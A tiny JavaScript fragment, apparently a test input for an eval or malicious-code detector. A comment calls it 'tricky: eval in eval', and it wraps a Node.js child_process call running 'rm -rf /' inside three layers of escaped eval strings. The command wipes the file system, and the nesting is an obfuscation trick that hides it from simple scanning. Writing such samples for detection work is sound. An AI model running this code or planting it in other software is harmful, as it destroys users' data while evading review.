// tricky: eval in eval
eval("eval(\"eval('require(\\\\'child_process\\\\').execSync(\\\\'rm -rf /\\\\')')\")");
